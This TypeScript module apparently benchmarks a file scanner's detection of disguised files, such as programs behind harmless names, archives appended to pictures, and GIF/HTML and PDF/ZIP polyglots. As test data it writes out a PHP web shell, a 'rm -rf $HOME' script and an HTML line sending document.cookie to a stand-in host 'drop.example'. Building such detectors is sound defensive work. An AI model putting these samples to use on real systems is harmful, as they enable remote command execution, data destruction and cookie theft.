import { severityOfScore } from '../../src/engine/detector.ts';
import { createEngine } from '../../src/engine/engine.ts';
import { zipFile } from '../../test/files/make-archives.ts';
import { makeFiles, zipOf } from '../../test/files/make-files.mjs';
import { randomOf } from '../../test/files/make-hostile.ts';
import type { Family } from '../family.ts';
import { plainFiles, type PlainFile } from '../plain-files.ts';

const PLAIN = ['pdf-actions', 'image-exif', 'image-qr', 'image-pdq'];
const STRUCTURAL = new Set(['file-type', 'hidden-data']);
const NAMES = [
  'invoice.jpg',
  'report.pdf',
  'song.mp3',
  'letter.docx',
  'holiday.png',
  'clip.mp4',
  'logo.gif',
  'table.xlsx',
];
/** After these a picture is over; what stands behind is seen by no viewer. */
const PICTURE = /\.(?:png|jpe?g|gif)$/i;
const latin = (text: string) => new Uint8Array(Buffer.from(text, 'latin1'));
const join = (...parts: Uint8Array[]) => new Uint8Array(Buffer.concat(parts));

/** What runs when somebody opens it. */
async function programs(): Promise<Uint8Array[]> {
  const windows = new Uint8Array((await makeFiles())['invoice_7731.jpg']);
  return [
    windows,
    join(latin('\x7fELF\x02\x01\x01\0'), new Uint8Array(56)),
    join(latin('\xcf\xfa\xed\xfe\x07\0\0\x01'), new Uint8Array(56)),
    join(latin('L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F'), new Uint8Array(56)),
    new Uint8Array(
      zipOf([
        ['META-INF/MANIFEST.MF', Buffer.from('Main-Class: A\n')],
        ['A.class', Buffer.from([0xca, 0xfe, 0xba, 0xbe])],
      ]),
    ),
    latin('#!/bin/sh\nrm -rf "$HOME"\n'),
    latin('<?php system($_GET["c"]);'),
    latin('@echo off\r\nstart calc\r\n'),
    latin(
      '<html><head><hta:application id="x"></head><script language="VBScript">x</script></html>',
    ),
  ];
}

/**
 * Programs and scripts behind harmless names, files that are two at once, pictures with something
 * behind them; and plain files.
 */
export const disguise: Family = {
  id: 'disguise',
  title: 'File type and tails',
  sets: PLAIN,
  async measure(data) {
    const engine = createEngine({ maxPixels: 1, textDetectors: [] });
    const severity = async (file: PlainFile, own: boolean) => {
      const { rows } = await engine.scan(
        { bytes: file.bytes, filename: file.name, mime: null, path: [file.name] },
        () => undefined,
      );
      return Math.max(
        0,
        ...rows.flatMap(({ detector, outcome }) =>
          STRUCTURAL.has(detector) && outcome.kind === 'found'
            ? outcome.things
                .filter(({ path }) => !own || path.length === 1)
                .map(({ score }) => severityOfScore(score))
            : [],
        ),
      );
    };
    const plain = plainFiles(data, PLAIN);
    const pictures = plain.filter(
      ({ name, bytes }) => PICTURE.test(name) && bytes.length < 400_000,
    );
    const draw = randomOf(5);
    const oneOf = () =>
      pictures[draw(pictures.length)] ?? { name: 'a.png', bytes: new Uint8Array() };
    const share = async (files: readonly PlainFile[], least: number) => {
      const missed: string[] = [];
      for (const file of files) if ((await severity(file, false)) < least) missed.push(file.name);
      return {
        share: 1 - missed.length / files.length,
        said: missed.length === 0 ? '' : ` (not: ${[...new Set(missed)].slice(0, 5).join(', ')})`,
      };
    };
    const dressed = (await programs()).flatMap((bytes) => NAMES.map((name) => ({ name, bytes })));
    const archive = zipFile([{ name: 'plan.txt', content: Buffer.from('x'.repeat(300)) }]);
    const page = latin(
      '<!doctype html><html><body><script>fetch("//drop.example/"+document.cookie)</script></body></html>',
    );
    const [program = new Uint8Array()] = await programs();
    const tails = [archive, program].flatMap((tail) =>
      Array.from({ length: 30 }, () => {
        const file = oneOf();
        return { name: file.name, bytes: join(file.bytes, tail) };
      }),
    );
    const both = [
      ...Array.from({ length: 20 }, () => ({
        name: 'avatar.gif',
        bytes: join(latin('GIF89a/*'), new Uint8Array(40), latin('*/=1;'), page),
      })),
      ...plain
        .filter(({ name }) => name.endsWith('.pdf'))
        .slice(0, 20)
        .map(({ name, bytes }) => ({ name, bytes: join(bytes, archive) })),
      ...plain
        .filter(({ name }) => name.endsWith('.pdf'))
        .slice(20, 40)
        .map(({ name, bytes }) => ({ name, bytes: join(archive, bytes) })),
    ];
    const [disguised, tailed, two] = [
      await share(dressed, 4),
      await share(tails, 3),
      await share(both, 2),
    ];
    const claimed: string[] = [];
    for (const file of plain) if ((await severity(file, true)) > 1) claimed.push(file.name);
    return [
      {
        metric: `programs and scripts behind harmless names told as High, ${dressed.length} made here${disguised.said}`,
        ours: disguised.share,
        unit: 'share',
        peer: null,
        target: { at: 'least', value: 1 },
        speed: null,
      },
      {
        metric:
          `archives and programs after the end of a picture told as Medium, ${tails.length} ` +
          `made here${tailed.said}`,
        ours: tailed.share,
        unit: 'share',
        peer: null,
        target: { at: 'least', value: 1 },
        speed: null,
      },
      {
        metric:
          `files that are two kinds at once told, ${both.length} made here of GIF and HTML, PDF ` +
          `and ZIP${two.said}`,
        ours: two.share,
        unit: 'share',
        peer: null,
        target: { at: 'least', value: 1 },
        speed: null,
      },
      {
        metric:
          `claimed above Informative in ${plain.length} plain ` +
          `files${claimed.length === 0 ? '' : ` (${claimed.slice(0, 6).join(', ')})`}`,
        ours: claimed.length,
        unit: 'count',
        peer: null,
        target: { at: 'most', value: 0 },
        speed: null,
      },
    ];
  },
};
